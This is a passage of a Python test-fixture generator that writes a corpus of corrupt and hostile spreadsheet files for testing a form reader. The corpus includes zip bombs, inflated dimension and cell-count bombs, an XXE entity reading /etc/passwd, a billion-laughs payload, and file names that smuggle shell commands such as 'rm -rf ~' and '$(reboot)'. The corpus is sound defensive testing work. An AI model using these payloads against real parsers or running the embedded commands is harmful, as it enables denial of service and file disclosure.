"""A generator of broken, odd and malicious input files (issue 6), for every reading test.

``make_corpus(tmp_dir)`` writes each case in a few milliseconds (the bombs are compressed
streams or lying zip directories) and returns what a reader must make of it:
``expect_kind`` is the ReadError kind it must raise, or None when the file must be read.
The flags tell later tests what else to expect:

- ``form``: the file holds one complete, consistent self-evaluation form (the good files
  beside the bad ones, which check must parse and merge must consolidate);
- ``folder``: the path is a directory to hand to merge/check as a whole (a symlink loop);
- ``injection``: the form's text cells start with = + - @ or a tab, to be written as text
  by every output format.
"""

from __future__ import annotations

import hashlib

import io
import os
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape

from jixiao.grid import column_letter


@dataclass
class HostileCase:
    name: str
    path: Path
    #: ReadError.kind expected from read_grids, or None when the file must read.
    expect_kind: str | None
    description: str
    form: bool = False
    folder: bool = False
    injection: bool = False
    tags: set[str] = field(default_factory=set)


# The first form of seed 004 (a published Shanghai form), 9 columns A-I. Numbers that a
# unit types as numbers are floats here; the text variant turns every one into text.
FORM_ROWS: list[list[object]] = [
    ["财政项目支出绩效自评表"],
    ["(2024年度)"],
    ["项目名称", "市政府办公厅专项工作业务经费"],
    ["主管部门", "上海市人民政府办公厅", None, None, None, "实施单位", "上海市人民政府办公厅"],
    ["项目资金 (万元)", None, "年初预算数", "全年预算数", "全年执行数", "分值", "执行率(%)", "得分"],
    [None, "年度资金总额", 409.90, 495.40, 492.92, 10.0, 99.49, 9.95],
    [None, "其中：当年财政拨款", 409.90, 495.40, 492.92, "—", 99.49, "—"],
    [None, "上年结转资金", None, None, None, "—", None, "—"],
    [None, "其他资金", None, None, None, "—", None, "—"],
    ["年度 总体 目标", "预期目标", None, None, None, "实际完成情况"],
    [None, "为市政府领导正常履职，完成社会经济发展目标，提供好经费保障和各项业务保障。", None, None, None,
     "各业务处室通力合作，加强沟通，紧密配合，较好地完成了各项工作。"],
    ["绩效 指标", "一级指标", "二级指标", "三级指标", "年度 指标值", "实际 完成值", "分值", "得分",
     "偏差原因分析及改 进措施"],
    [None, "产出指标", "数量指标", "保障公务外出次数", "≥200(次)", "235次", 20.0, 20.0],
    [None, None, "质量指标", "年终预算执行率", "≥90(%)", "99.49%", 10.0, 10.0],
    [None, None, "时效指标", "年中预算执行率", "≥50%", "60%", 10.0, 10.0],
    [None, "效益指标", "经济效益指标", "调研集中出行率", "≥90%", "100%", 15.0, 15.0],
    [None, None, "社会效益指标", "全市重点工作完成率", "≥90%", "100%", 15.0, 15.0],
    [None, None, "生态效益指标", "行政运行成本增长率", "=0%", "2.5%", 5.0, 0.0, "外埠出差增多。"],
    [None, "满意度 指标", "服务对象 满意度指标", "保障公务外出 准点率", "≥90%", "100%", 15.0, 15.0],
    ["总分", None, None, None, None, None, 100.0, 94.95],
]
FORM_MERGES = ["A1:I1", "A2:I2", "B3:I3", "B4:E4", "G4:I4", "A5:A9", "A10:A11", "A12:A19", "A20:F20"]


# --- minimal xlsx parts ------------------------------------------------------------------

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RNS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _content_types(n_sheets: int, shared_strings: bool) -> str:
    parts = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i + 1}.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' for i in range(n_sheets))
    if shared_strings:
        parts += ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                  'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' + parts + "</Types>")


def _workbook(names: list[str], states: list[str] | None = None) -> str:
    states = states or ["visible"] * len(names)
    sheets = "".join(
        f'<sheet name="{escape(n, {chr(34): "&quot;"})}" sheetId="{i + 1}"'
        + ("" if s == "visible" else f' state="{s}"') + f' r:id="rId{i + 1}"/>'
        for i, (n, s) in enumerate(zip(names, states)))
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook {_NS} {_RNS}>'
            f"<sheets>{sheets}</sheets></workbook>")


def _workbook_rels(n_sheets: int, shared_strings: bool) -> str:
    rels = "".join(f'<Relationship Id="rId{i + 1}" Type="{_REL}/worksheet" Target="worksheets/sheet{i + 1}.xml"/>'
                   for i in range(n_sheets))
    if shared_strings:
        rels += f'<Relationship Id="rId{n_sheets + 1}" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>'
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://'
            f'schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>')


_ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://'
              'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
              f'Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>')


def _cell(r: int, c: int, value: object) -> str:
    ref = f"{column_letter(c)}{r + 1}"
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    if isinstance(value, str) and value.startswith("\x00formula:"):
        return f'<c r="{ref}"><f>{escape(value[9:])}</f><v>0</v></c>'
    text = escape(str(value))
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def sheet_xml(rows: list[list[object]], merges: list[str] = (), dimension: str | None = None,
              prolog: str = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n') -> str:
    body = "".join(
        f'<row r="{r + 1}">' + "".join(_cell(r, c, v) for c, v in enumerate(line)) + "</row>"
        for r, line in enumerate(rows) if any(v is not None for v in line))
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    merge = (f'<mergeCells count="{len(merges)}">' + "".join(f'<mergeCell ref="{m}"/>' for m in merges)
             + "</mergeCells>") if merges else ""
    return f"{prolog}<worksheet {_NS}>{dim}<sheetData>{body}</sheetData>{merge}</worksheet>"


def write_xlsx(path: Path, sheets: list[tuple[str, str]], *, states: list[str] | None = None,
               shared_strings: str | None = None, extra: dict[str, bytes | str] | None = None,
               workbook_xml: str | None = None) -> Path:
    """A minimal but valid xlsx from (sheet name, sheet XML) pairs; parts overridable."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _content_types(len(sheets), shared_strings is not None))
        zf.writestr("_rels/.rels", _ROOT_RELS)
        zf.writestr("xl/workbook.xml", workbook_xml or _workbook([n for n, _ in sheets], states))
        zf.writestr("xl/_rels/workbook.xml.rels", _workbook_rels(len(sheets), shared_strings is not None))
        for i, (_, xml) in enumerate(sheets):
            zf.writestr(f"xl/worksheets/sheet{i + 1}.xml", xml)
        if shared_strings is not None:
            zf.writestr("xl/sharedStrings.xml", shared_strings)
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return path


def form_xlsx(path: Path, rows: list[list[object]] = FORM_ROWS, sheet: str = "自评表") -> Path:
    return write_xlsx(path, [(sheet, sheet_xml(rows, FORM_MERGES, f"A1:I{len(rows)}"))])


def _ods(path: Path, content: str) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        zf.writestr("META-INF/manifest.xml",
                    '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:'
                    'tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
                    'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                    "</manifest:manifest>", zipfile.ZIP_DEFLATED)
        zf.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
    return path


_ODS_HEAD = ('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
             'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
             'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
             "<office:body><office:spreadsheet>")
_ODS_TAIL = "</office:spreadsheet></office:body></office:document-content>"


def _ods_cell(value: object, repeat: int = 1) -> str:
    rep = f' table:number-columns-repeated="{repeat}"' if repeat > 1 else ""
    if value is None:
        return f"<table:table-cell{rep}/>"
    if isinstance(value, float):
        return (f'<table:table-cell{rep} office:value-type="float" office:value="{value!r}">'
                f"<text:p>{value}</text:p></table:table-cell>")
    return f'<table:table-cell{rep} office:value-type="string"><text:p>{escape(str(value))}</text:p></table:table-cell>'


def form_ods(path: Path, rows: list[list[object]] = FORM_ROWS) -> Path:
    body = "".join("<table:table-row>" + "".join(_ods_cell(v) for v in line) + "</table:table-row>" for line in rows)
    # LibreOffice pads every sheet with a huge run of repeated empty rows: must stay cheap.
    pad = '<table:table-row table:number-rows-repeated="1048556"><table:table-cell table:number-columns-repeated="1024"/></table:table-row>'
    return _ods(path, '<?xml version="1.0" encoding="UTF-8"?>\n' + _ODS_HEAD
                + f'<table:table table:name="自评表">{body}{pad}</table:table>' + _ODS_TAIL)


def form_text(rows: list[list[object]] = FORM_ROWS, delimiter: str = "\t") -> str:
    def show(v: object) -> str:
        if v is None:
            return ""
        text = f"{v:.2f}" if isinstance(v, float) else str(v)
        return f'"{text}"' if delimiter in text else text
    return "\n".join(delimiter.join(show(v) for v in line) for line in rows) + "\n"


def form_xls(path: Path, rows: list[list[object]] = FORM_ROWS) -> Path:
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("自评表")
    for r, line in enumerate(rows):
        for c, v in enumerate(line):
            if v is not None:
                ws.write(r, c, v)
    book.save(str(path))
    return path


def _patch_ole_stream_name(data: bytes, old: str, new: str) -> bytes:
    """Rename a stream in an OLE directory in place (name field + its length)."""
    old_raw = old.encode("utf-16-le") + b"\x00\x00"
    at = data.find(old_raw)
    assert at >= 0 and len(new) <= 31
    entry = bytearray(data[at:at + 128])
    new_raw = new.encode("utf-16-le") + b"\x00\x00"
    entry[0:64] = new_raw.ljust(64, b"\x00")
    entry[64:66] = struct.pack("<H", len(new_raw))
    return data[:at] + bytes(entry) + data[at + 128:]


def _patch_declared_size(data: bytes, member: str, size: int) -> bytes:
    """Make the central directory claim ``size`` inflated bytes for ``member``."""
    name = member.encode()
    pos = 0
    while True:
        at = data.find(b"PK\x01\x02", pos)
        assert at >= 0
        name_len = struct.unpack("<H", data[at + 28:at + 30])[0]
        if data[at + 46:at + 46 + name_len] == name:
            return data[:at + 24] + struct.pack("<I", size) + data[at + 28:]
        pos = at + 4


def _rezip(data: bytes, changes: dict[str, str | bytes | None]) -> bytes:
    """The zip ``data`` with members replaced, added, or (value None) removed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            if name not in changes:
                dst.writestr(name, src.read(name))
        for name, content in changes.items():
            if content is not None:
                dst.writestr(name, content)
    return out.getvalue()


def _bomb_sheet(path: Path, inflated_mb: int) -> Path:
    """A real zip bomb: a sheet of ``inflated_mb`` MB of cells, compressed about 1000:1."""
    row = b'<row r="1"><c r="A1"><v>0</v></c></row>'
    block = row * (1024 * 1024 // len(row))
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    compressed = bytearray()
    compressed += comp.compress(b'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet ' + _NS.encode() + b"><sheetData>")
    crc = zlib.crc32(b'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet ' + _NS.encode() + b"><sheetData>")
    size = len(b'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet ' + _NS.encode() + b"><sheetData>")
    for _ in range(inflated_mb):
        compressed += comp.compress(block)
        crc = zlib.crc32(block, crc)
        size += len(block)
    tail = b"</sheetData></worksheet>"
    compressed += comp.compress(tail) + comp.flush()
    crc = zlib.crc32(tail, crc)
    size += len(tail)
    write_xlsx(path, [("S", sheet_xml([["placeholder"]]))])
    # Append the bomb as sheet1 by rebuilding the zip with a raw deflated member.
    with zipfile.ZipFile(path) as src:
        members = [(i, src.read(i.filename)) for i in src.infolist()]
    with open(path, "wb") as out:
        central = b""
        for info, data in members:
            if info.filename == "xl/worksheets/sheet1.xml":
                raw, ucrc, usize = bytes(compressed), crc & 0xFFFFFFFF, size
            else:
                c = zlib.compressobj(6, zlib.DEFLATED, -15)
                raw, ucrc, usize = c.compress(data) + c.flush(), zlib.crc32(data) & 0xFFFFFFFF, len(data)
            name = info.filename.encode()
            offset = out.tell()
            out.write(struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, ucrc, len(raw), usize, len(name), 0))
            out.write(name + raw)
            central += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, ucrc, len(raw), usize,
                                   len(name), 0, 0, 0, 0, 0, offset) + name
        start = out.tell()
        out.write(central)
        out.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), start, 0))
    return path


_XXE = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
           '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
           '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
           '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
           '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">'
           '<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">'
           '<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">'
           '<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">'
           '<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>')
# A binary part that starts with "<" by chance, as a random vbaProject.bin did once in CI
# (one in a few hundred runs): the gate must not take it for XML.
_BINARY_PART = b"<" + bytes(range(128, 256)) * 4 + bytes(range(128))

_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'


def make_corpus(root: str | os.PathLike[str]) -> list[HostileCase]:
    """Write every hostile case under ``root`` (created if needed) and describe them."""
    root = Path(root)
    root.mkdir(parents=True, exist_ok=True)
    cases: list[HostileCase] = []
    rng = random.Random(6)  # varied content: real text does not compress 400x like a repeated word

    def add(name: str, expect: str | None, description: str, **flags: object) -> Path:
        path = root / name
        cases.append(HostileCase(name=name, path=path, expect_kind=expect, description=description, **flags))
        return path

    # --- good files beside the bad ones: these must be read (and later consolidated) ---
    good = form_xlsx(add("good_form.xlsx", None, "a clean form, the baseline", form=True))
    good_bytes = good.read_bytes()
    form_xls(add("good_form.xls", None, "a clean form written by xlwt", form=True))
    good_xls_bytes = (root / "good_form.xls").read_bytes()
    form_ods(add("good_form.ods", None, "a clean form in ODS with LibreOffice's padding rows", form=True))
    add("good_form.txt", None, "tab-separated text like the published seeds", form=True).write_text(
        form_text(), encoding="utf-8")
    add("good_form_gb18030.csv", None, "comma-separated, GB18030 (Excel's CSV in a Chinese locale)",
        form=True).write_bytes(form_text(delimiter=",").encode("gb18030"))
    add("good_form_bom.csv", None, "comma-separated with a UTF-8 BOM", form=True).write_bytes(
        form_text(delimiter=",").encode("utf-8-sig"))
    add("good_form_utf16.txt", None, "Excel's 'Unicode text': UTF-16 with BOM, tabs", form=True).write_bytes(
        form_text().encode("utf-16"))

    # --- names a shell would misread: all hold the good form ---
    for name in ["带 空格 的 自评表.xlsx", "项目；rm -rf ~；$(reboot)`id`.xlsx", "a'b\"c|d&e>f<g*h?.xlsx",
                 "-rf --help.xlsx", "换行\n名字.xlsx", "%s%n%x{0}.xlsx"]:
        add(name, None, "a file name with spaces, Chinese or shell metacharacters", form=True,
            tags={"odd_name"}).write_bytes(good_bytes)

    # --- not spreadsheets at all ---
    add("empty.xlsx", "empty", "zero bytes").write_bytes(b"")
    add("empty.csv", "empty", "zero bytes of text").write_bytes(b"")
    add("text_renamed.xlsx", "not_spreadsheet", "a tab-separated text renamed .xlsx").write_text(form_text(),
                                                                                                encoding="utf-8")
    add("pdf_renamed.xlsx", "not_spreadsheet", "a PDF renamed .xlsx").write_bytes(
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
    add("png_renamed.xls", "not_spreadsheet", "a PNG renamed .xls").write_bytes(
        b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + os.urandom(64))
    add("jpeg_renamed.xlsx", "not_spreadsheet", "a JPEG renamed .xlsx").write_bytes(b"\xff\xd8\xff\xe0" + os.urandom(64))
    add("random_bytes.xlsx", "not_spreadsheet", "random binary data").write_bytes(b"\x01\x02\xfe" + os.urandom(2000))
    with zipfile.ZipFile(add("docx_renamed.xlsx", "not_spreadsheet", "a Word document renamed .xlsx"), "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document/>")
    with zipfile.ZipFile(add("plain_zip.xlsx", "not_spreadsheet", "an ordinary zip archive renamed .xlsx"), "w") as zf:
        zf.writestr("readme.txt", "hello")
    with zipfile.ZipFile(add("odt_renamed.ods", "not_spreadsheet", "an OpenDocument text renamed .ods"), "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        zf.writestr("content.xml", "<office:document-content/>")
    add("html_as.xls", "unsupported", "an HTML table saved as .xls by a web system").write_text(
        "<html><body><table><tr><td>项目名称</td></tr></table></body></html>", encoding="utf-8")
    add("xml2003.xls", "unsupported", "Excel 2003 XML spreadsheet").write_text(
        '<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"></Workbook>',
        encoding="utf-8")
    with zipfile.ZipFile(add("binary.xlsb", "unsupported", "an .xlsb binary workbook"), "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.bin", b"\x83\x01\x00")
    add("old_biff4.xls", "unsupported", "an Excel 4.0 worksheet (bare BIFF)").write_bytes(
        b"\x09\x04\x06\x00\x00\x00\x10\x00" + b"\x00" * 64)
    add("no_table.txt", "not_spreadsheet", "a text file without tabs or commas").write_text(
        "这只是一段说明文字\n没有表格\n", encoding="utf-8")
    add("binary.csv", "not_spreadsheet", "binary data named .csv").write_bytes(b"a,b\x00\x00\x01" + bytes(range(256)))
    add("bad_encoding.csv", "encoding", "text in no encoding we know (bytes invalid in UTF-8 and GB18030)"
        ).write_bytes(("项目名称,金额\n".encode("utf-8") + b"\x80\x80,\xff\xff\n") * 3)
    notes = add("notes.md", "not_spreadsheet", "a stray document in the folder")
    notes.write_text("# 说明\n", encoding="utf-8")

    # --- damaged files ---
    for fraction in (0.1, 0.5, 0.9):
        add(f"truncated_{int(fraction * 100)}.xlsx", "corrupt", "a download cut short").write_bytes(
            good_bytes[: int(len(good_bytes) * fraction)])
    add("truncated_half.xls", "corrupt", "a .xls cut in half").write_bytes(good_xls_bytes[: len(good_xls_bytes) // 2])
    add("ole_garbage.xls", "corrupt", "the OLE signature followed by garbage").write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(4000))
    add("pk_garbage.xlsx", "corrupt", "a zip signature followed by garbage").write_bytes(b"PK\x03\x04" + os.urandom(2000))
    sheet_at = good_bytes.find(b"xl/worksheets/sheet1.xml") + len(b"xl/worksheets/sheet1.xml")
    flipped = bytearray(good_bytes)
    for i in range(sheet_at + 10, sheet_at + 60):
        flipped[i] ^= 0x5A
    add("bitflip.xlsx", "corrupt", "bytes flipped inside the compressed sheet (bad CRC)").write_bytes(bytes(flipped))
    write_xlsx(add("missing_sheet.xlsx", "corrupt", "the workbook names a sheet part that is absent"),
               [("自评表", sheet_xml(FORM_ROWS))])
    with zipfile.ZipFile(root / "missing_sheet.xlsx") as src:
        parts = {n: src.read(n) for n in src.namelist() if n != "xl/worksheets/sheet1.xml"}
    with zipfile.ZipFile(root / "missing_sheet.xlsx", "w", zipfile.ZIP_DEFLATED) as zf:
        for n, d in parts.items():
            zf.writestr(n, d)
    write_xlsx(add("broken_workbook_xml.xlsx", "corrupt", "workbook.xml is not well-formed"),
               [("S", sheet_xml([["x"]]))], workbook_xml=f"{_DECL}<workbook {_NS} {_RNS}><sheets><sheet name=")
    write_xlsx(add("padded_prolog.xlsx", "unsafe_xml", "a DOCTYPE hidden behind a 70 KB comment"),
               [("S", sheet_xml([["x"]], prolog=_DECL + "<!--" + "x" * 70000 + "-->" + _XXE))])

    # --- encrypted ---
    encrypted = add("encrypted.xlsx", "encrypted", "a workbook with an open password (msoffcrypto)")
    _encrypt(good, encrypted)
    add("encrypted_package.xls", "encrypted", "an OLE container holding an EncryptedPackage stream").write_bytes(
        _patch_ole_stream_name(good_xls_bytes, "Workbook", "EncryptedPackage"))
    # FILEPASS (0x002F) in the globals is how BIFF marks an open password; overwrite the
    # type of WRITEACCESS (0x005C, 112 bytes), which sits there in every xlwt file.
    writeaccess = good_xls_bytes.find(b"\x5c\x00\x70\x00")
    add("encrypted_biff.xls", "encrypted", "a .xls whose globals hold a FILEPASS record").write_bytes(
        good_xls_bytes[:writeaccess] + b"\x2f\x00" + good_xls_bytes[writeaccess + 2:])
    add("word_in_ole.xls", "not_spreadsheet", "a legacy Word document renamed .xls").write_bytes(
        _patch_ole_stream_name(good_xls_bytes, "Workbook", "WordDocument"))
    zip_encrypted = bytearray(good_bytes)
    pos = 0
    while (pos := zip_encrypted.find(b"PK\x01\x02", pos)) >= 0:  # set the "encrypted" flag bit
        zip_encrypted[pos + 8] |= 1
        pos += 4
    add("zip_password.xlsx", "encrypted", "zip members flagged as password-encrypted").write_bytes(bytes(zip_encrypted))

    # --- bombs and limits ---
    _bomb_sheet(add("zip_bomb.xlsx", "zip_bomb", "a sheet that inflates to 210 MB (ratio ~1000)"), 210)
    add("lying_directory.xlsx", "zip_bomb", "the zip directory claims a 1 GB sheet").write_bytes(
        _patch_declared_size(good_bytes, "xl/worksheets/sheet1.xml", 1 << 30))
    add("understated_size.xlsx", "zip_bomb", "a sheet that inflates past the size its directory declares",
        ).write_bytes(_patch_declared_size(good_bytes, "xl/worksheets/sheet1.xml", 100))
    far_cells = (f'<worksheet {_NS}><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576">'
                 '<c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>')
    add("sheet_in_odd_place.xlsx", "too_many_cells", "the workbook points at a sheet stored outside xl/worksheets/"
        ).write_bytes(_rezip(good_bytes, {"xl/worksheets/sheet1.xml": None, "xl/data/blob.bin": far_cells,
                                          "xl/_rels/workbook.xml.rels": _workbook_rels(1, False).replace(
                                              "worksheets/sheet1.xml", "data/blob.bin")}))
    with zipfile.ZipFile(add("many_members.xlsx", "zip_bomb", "3,000 zip members"), "w") as zf:
        zf.writestr("xl/workbook.xml", _workbook(["S"]))
        for i in range(3000):
            zf.writestr(f"xl/media/m{i}.bin", b"")
    write_xlsx(add("huge_dimension.xlsx", "too_many_cells", "<dimension> claims A1:XFD1048576 (openpyxl trusts it)"),
               [("自评表", sheet_xml(FORM_ROWS, FORM_MERGES, "A1:XFD1048576"))])
    write_xlsx(add("far_cell.xlsx", "too_many_cells", "A1 and a cell at XFD1048576: calamine would abort"),
               [("S", f'{_DECL}<worksheet {_NS}><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
                 f'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>')])
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}" t="inlineStr"><is><t>x</t></is></c></row>'
                   for r in range(1, 200_001))
    write_xlsx(add("rows_200k.xlsx", "too_many_cells", "a sheet that really has 200,000 rows"),
               [("S", f"{_DECL}<worksheet {_NS}><sheetData>{rows}</sheetData></worksheet>")])
    cols = "".join(f'<c r="{column_letter(c)}1"><v>{c}</v></c>' for c in range(10_000))
    write_xlsx(add("cols_10k.xlsx", "too_many_cells", "one row of 10,000 columns"),
               [("S", f'{_DECL}<worksheet {_NS}><sheetData><row r="1">{cols}</row></sheetData></worksheet>')])
    norefs = "".join(f"<row><c><v>{rng.random()}</v></c></row>" for _ in range(60_000))
    write_xlsx(add("rows_without_refs.xlsx", "too_many_cells", "60,000 rows whose cells carry no r= reference"),
               [("S", f"{_DECL}<worksheet {_NS}><sheetData>{norefs}</sheetData></worksheet>")])
    wide = ('<table:table-row table:number-rows-repeated="3000"><table:table-cell table:number-columns-repeated='
            '"3000" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>')
    _ods(add("ods_repeated_bomb.ods", "too_many_cells", "ODS: one value repeated over 3000 x 3000 cells"),
         f'{_DECL}{_ODS_HEAD}<table:table table:name="S">{wide}</table:table>{_ODS_TAIL}')
    merges = [f"A{r}:B{r}" for r in range(1, 20_001)]
    write_xlsx(add("merges_20k.xlsx", "too_many_cells", "a sheet of 20,000 merged ranges"),
               [("S", sheet_xml([["x"]], merges))])
    xls_merges = root / "xls_merges.xls"
    _xls_merges(xls_merges, 6000)
    add("xls_merges.xls", "too_many_cells", "a .xls with 6,000 merged ranges")
    sheets200 = [(f"S{i}", sheet_xml([[f"sheet {i}"]])) for i in range(200)]
    write_xlsx(add("sheets_200.xlsx", "too_many_sheets", "a workbook with 200 sheets"), sheets200)
    add("rows_200k.csv", "too_many_cells", "a CSV of 200,000 rows").write_text("1,2\n" * 200_000, encoding="utf-8")
    with open(add("too_large.xlsx", "too_large", "a 60 MB file (sparse on disk)"), "wb") as fh:
        fh.write(good_bytes)
        fh.truncate(60 * 1024 * 1024)
    xls_book = root / "xls_far_rows.xls"
    _xls_rows(xls_book, 51_000)
    add("xls_far_rows.xls", "too_many_cells", "a .xls with 51,000 rows (over max_rows)")

    # --- issue 11: what passed the gate and aborted the reader ---
    write_xlsx(add("single_quoted_far_cell.xlsx", "too_many_cells",
                   "A1 and a cell at XFD1048576, its attributes in single quotes"),
               [("S", f"{_DECL}<worksheet {_NS}><sheetData><row r='1'><c r='A1'><v>1</v></c></row>"
                 f"<row r='1048576'><c r='XFD1048576'><v>1</v></c></row></sheetData></worksheet>")])
    add("sheet_id_to_other_part.xlsx", "too_many_cells",
        "a <sheet r:id> whose single-quoted relationship points at a part outside xl/worksheets"
        ).write_bytes(_rezip(good_bytes, {
            "xl/worksheets/sheet1.xml": None, "xl/other/data.xml": far_cells,
            "xl/_rels/workbook.xml.rels": _workbook_rels(1, False).replace('"', "'").replace(
                "worksheets/sheet1.xml", "other/data.xml")}))
    far_in_workbook = (f'<sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576">'
                       f'<c r="XFD1048576"><v>1</v></c></row></sheetData></workbook>')
    add("sheet_id_to_workbook_part.xlsx", "too_many_cells",
        "a <sheet r:id> pointing at workbook.xml itself, which holds the far cells").write_bytes(_rezip(
            good_bytes, {"xl/workbook.xml": _workbook(["自评表"]).replace("</workbook>", far_in_workbook),
                         "xl/_rels/workbook.xml.rels": _workbook_rels(1, False).replace(
                             "worksheets/sheet1.xml", "workbook.xml")}))
    xls_macro = root / "xls_macro_sheet.xls"
    _xls_far_cell(xls_macro)
    data = xls_macro.read_bytes()
    worksheet_bof = b"\x09\x08\x10\x00\x00\x06\x10\x00"
    assert data.count(worksheet_bof) == 1
    xls_macro.write_bytes(data.replace(worksheet_bof, b"\x09\x08\x10\x00\x00\x06\x40\x00"))
    add("xls_macro_sheet.xls", "too_many_cells", "an Excel 4.0 macro sheet with cells at A1 and IV65536")
    spaces = ('<table:table-row><table:table-cell office:value-type="string"><text:p>a'
              '<text:s text:c="1500000000"/>b</text:p></table:table-cell></table:table-row>')
    _ods(add("ods_spaces.ods", "too_large", "ODS: one <text:s> asking for 1,500,000,000 spaces"),
         f'{_DECL}{_ODS_HEAD}<table:table table:name="S">{spaces}</table:table>{_ODS_TAIL}')
    whole = "A1:XFD1048576"
    write_xlsx(add("merge_whole_sheet.xlsx", None, "a 3 KB form with one merged range over A1:XFD1048576",
                   tags={"openpyxl_bomb"}),
               [("自评表", sheet_xml(FORM_ROWS, [whole]))])
    write_xlsx(add("hyperlink_whole_sheet.xlsx", None, "a form with one hyperlink over A1:XFD1048576",
                   tags={"openpyxl_bomb"}),
               [("自评表", sheet_xml(FORM_ROWS, FORM_MERGES).replace(
                   "</worksheet>", f'<hyperlinks><hyperlink ref="{whole}" r:id="rId1" {_RNS}/></hyperlinks></worksheet>'))],
               extra={"xl/worksheets/_rels/sheet1.xml.rels":
